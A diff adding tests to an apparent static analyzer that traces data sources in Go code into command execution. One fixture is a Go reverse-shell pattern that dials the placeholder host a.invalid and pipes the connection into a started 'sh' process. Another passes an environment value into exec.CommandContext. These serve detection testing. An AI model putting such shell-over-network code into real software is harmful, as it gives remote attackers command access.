@@ -238,6 +238,16 @@ test('effects take the roles of their objects: standard input, headers, bodies, 
   assert.deepEqual(effectsOf(go(`func F(w io.Writer) { io.WriteString(w, "id") }`, NET)), [])
 })
 
+test('effects have the roles that a command is given where it is run, not where it is made', () => {
+  const body = `func shell() *exec.Cmd { return exec.Command("sh") }\nfunc F() { c, _ := net.Dial("tcp", "a.invalid:1"); s := shell(); s.Stdin = c; s.Start() }`
+  assert.deepEqual(sources(go(body, NET), 'stdin'), ['network a.invalid:1'])
+})
+
+test('effects follow what a context holds, and no context by itself', () => {
+  const body = `type k struct{}\nfunc F() { run(context.WithValue(context.Background(), k{}, os.Getenv("A"))) }\nfunc run(c context.Context) { exec.CommandContext(c, c.Value(k{}).(string)) }\nfunc G(c context.Context) { exec.CommandContext(c, "id") }`
+  assert.deepEqual(sources(go(body, [...NET, 'context']), 'command'), ['env A'])
+})
+
 test('effects are told apart by what callers pass', () => {
   const found = effectsOf(
     go(`func A() { run("id") }\nfunc B() { run("ls") }\nfunc run(c string) { exec.Command(c).Run() }`),
